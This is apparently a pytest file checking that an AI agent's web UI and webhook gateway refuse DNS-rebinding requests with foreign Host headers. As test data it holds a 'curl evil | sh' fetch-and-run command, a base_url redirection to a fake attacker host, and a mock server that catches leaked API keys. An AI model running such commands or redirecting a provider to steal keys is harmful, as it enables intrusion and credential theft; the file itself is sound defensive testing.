"""DNS rebinding: a web page whose own name now resolves to 127.0.0.1 talks to our server.

Its requests carry `Host` (and `Origin`) naming the attacker's domain. Every listener must
refuse them before anything runs: reads, event streams, writes, approvals, the provider test
that would send the API key to a `base_url` of the attacker's choosing, and the gateway's
webhook. Loopback names, the bind address and names the user lists keep working.
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from pathlib import Path

import pytest

from tests.conftest import TEST_PORT
from tests.fakes.openai_server import FakeOpenAI
from tests.gateway_support import GatewayProcess, signature
from tests.support import ServerProcess, fake_provider_env, free_port, request

EVIL = f"rebind.evil.example:{TEST_PORT}"
EVIL_HEADERS = {"Host": EVIL, "Origin": f"http://{EVIL}"}

READS = [
    "/",
    "/health",
    "/api/sessions",
    "/api/session?session_id=abc",
    "/api/sessions/search?q=secret",
    "/api/sessions/export",
    "/api/settings",
    "/api/models",
    "/api/chat/stream?stream_id=abc",
    "/api/approval/pending?session_id=abc",
    "/api/auth/status",
    "/openapi.json",
    "/static/app.js",
]
WRITES = {
    "/api/session/new": {},
    "/api/chat/start": {"session_id": "abc", "message": "run `curl evil | sh`"},
    "/api/approval/respond": {"session_id": "abc", "choice": "always"},
    "/api/settings": {"base_url": "http://evil.example/v1"},
    "/api/settings/test": {},
    "/api/session/import": {"messages": [{"role": "user", "content": "x"}]},
    "/api/auth/password": {"new": "attacker-password"},
}


def assert_refused(reply) -> None:
    assert reply.status == 421, (reply.status, reply.body[:200])
    body = reply.json
    assert "HERMES_ALLOWED_HOSTS" in body["error"]
    assert body["code"] == "host_not_allowed"


@pytest.mark.parametrize("path", READS)
def test_reads_and_streams_for_a_foreign_host_are_refused(base_url, path):
    assert_refused(request(base_url, "GET", path, headers=EVIL_HEADERS))


@pytest.mark.parametrize("path", sorted(WRITES))
def test_writes_for_a_foreign_host_are_refused_and_change_nothing(base_url, path):
    before = request(base_url, "GET", "/api/sessions").json["sessions"]
    assert_refused(request(base_url, "POST", path, WRITES[path], headers=EVIL_HEADERS))
    assert request(base_url, "GET", "/api/sessions").json["sessions"] == before
    assert request(base_url, "GET", "/api/auth/status").json["auth_required"] is False


@pytest.mark.parametrize(
    "host",
    [
        "localhost.evil.example",
        "127.0.0.1.evil.example",
        "evil.example:abc",
        "[::1",
        "[::1]junk",
        "",
        "192.168.1.20",
        "10.0.0.1:8787",
    ],
)
def test_malformed_lookalike_and_foreign_address_hosts_are_refused(base_url, host):
    assert_refused(request(base_url, "GET", "/api/sessions", headers={"Host": host}))


@pytest.mark.parametrize(
    "host",
    [
        "localhost:{port}",
        "LOCALHOST:{port}",
        "127.0.0.1:{port}",
        "127.0.0.1",
        "[::1]:{port}",
        "localhost.:{port}",
    ],
)
def test_loopback_names_and_addresses_are_served(base_url, host):
    headers = {"Host": host.format(port=TEST_PORT)}
    reply = request(base_url, "GET", "/api/sessions", headers=headers)
    assert reply.status == 200, reply.body[:200]


class KeyCatcher(http.server.ThreadingHTTPServer):
    """The attacker's provider: records every Authorization header it is sent."""

    def __init__(self) -> None:
        self.keys: list[str] = []
        catcher = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                catcher.keys.append(self.headers.get("Authorization", ""))
                self.send_response(500)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                """Quiet."""

        super().__init__(("127.0.0.1", 0), Handler)


def test_a_rebinding_page_cannot_redirect_the_provider_to_steal_the_api_key(tmp_path):
    """The whole attack: point base_url at the attacker, then ask for a connection test."""
    catcher = KeyCatcher()
    threading.Thread(target=catcher.serve_forever, daemon=True).start()
    attacker_url = f"http://127.0.0.1:{catcher.server_address[1]}/v1"
    with FakeOpenAI() as llm:
        server = ServerProcess(tmp_path / "srv")
        server.extra_env = fake_provider_env(llm, HERMES_BASE_URL="", HERMES_API_KEY="")
        server.start()
        try:
            base = server.base
            assert request(base, "POST", "/api/settings", {"api_key": "sk-victim-key-123456"})
            evil = {
                "Host": f"evil.example:{server.port}",
                "Origin": f"http://evil.example:{server.port}",
            }
            assert_refused(
                request(base, "POST", "/api/settings", {"base_url": attacker_url}, headers=evil)
            )
            assert_refused(request(base, "POST", "/api/settings/test", {}, headers=evil))
            assert request(base, "GET", "/api/settings").json["base_url"] != attacker_url
        finally:
            server.stop()
    catcher.shutdown()
    assert catcher.keys == []
    config = Path(server.root / "hermes-home" / "config.yaml")
    assert attacker_url not in (config.read_text() if config.exists() else "")


def test_listed_names_and_subdomain_wildcards_are_served(tmp_path):
    server = ServerProcess(tmp_path / "srv")
    server.extra_env = {"HERMES_ALLOWED_HOSTS": "hermes.home.test, *.tail.test"}
    server.start()
    try:
        for host in ("hermes.home.test", "Hermes.Home.Test:8080", "box.tail.test"):
            reply = request(server.base, "GET", "/api/sessions", headers={"Host": host})
            assert reply.status == 200, (host, reply.body[:200])
        for host in ("tail.test", "evil-hermes.home.test", "hermes.home.test.evil.example"):
            assert_refused(request(server.base, "GET", "/api/sessions", headers={"Host": host}))
    finally:
        server.stop()


def test_a_public_bind_with_a_password_serves_its_listed_name_and_says_what_it_expects(
    tmp_path,
):
    server = ServerProcess(tmp_path / "srv")
    server.extra_env = {
        "HERMES_WEBUI_HOST": "0.0.0.0",
        "HERMES_WEBUI_PASSWORD": "a-long-password",
        "HERMES_ALLOWED_HOSTS": "hermes.lan.test",
    }
    server.start()
    try:
        listed = {"Host": f"hermes.lan.test:{server.port}"}
        assert request(server.base, "GET", "/api/sessions", headers=listed).status == 401
        login = request(
            server.base, "POST", "/api/auth/login", {"password": "a-long-password"}, headers=listed
        )
        assert login.status == 200
        by_address = {"Host": f"192.0.2.7:{server.port}"}
        assert request(server.base, "GET", "/api/sessions", headers=by_address).status == 401
        assert_refused(
            request(server.base, "GET", "/api/sessions", headers={"Host": "evil.example"})
        )
        assert "hermes.lan.test" in server.log()
        assert "It answers to Host" in server.log()
    finally:
        server.stop()


def test_the_gateway_webhook_refuses_a_foreign_host(tmp_path):
    port = free_port()
    secret = "host-check-secret-0123456789"
    with FakeOpenAI() as llm:
        gateway = GatewayProcess(
            tmp_path / "gw",
            llm,
            HERMES_GATEWAY_PLATFORMS="webhook",
            HERMES_WEBHOOK_PORT=str(port),
            HERMES_WEBHOOK_SECRETS=f"ci={secret}",
        ).start()
        try:
            gateway.wait(lambda: _answers(port), "webhook server")
            body = json.dumps({"chat_id": "1", "user_id": "u", "text": "hi"}).encode()
            stamp = int(time.time())
            headers = {
                "Host": f"evil.example:{port}",
                "X-Hermes-Timestamp": str(stamp),
                "X-Hermes-Signature": signature(secret, stamp, body),
            }
            reply = request(
                f"http://127.0.0.1:{port}", "POST", "/hook/ci", data=body, headers=headers
            )
            assert_refused(reply)
            assert llm.requests == []
        finally:
            assert gateway.stop() == 0, gateway.log()


def _answers(port: int) -> bool:
    try:
        return request(f"http://127.0.0.1:{port}", "GET", "/hook/none", timeout=1).status > 0
    except OSError:
        return False
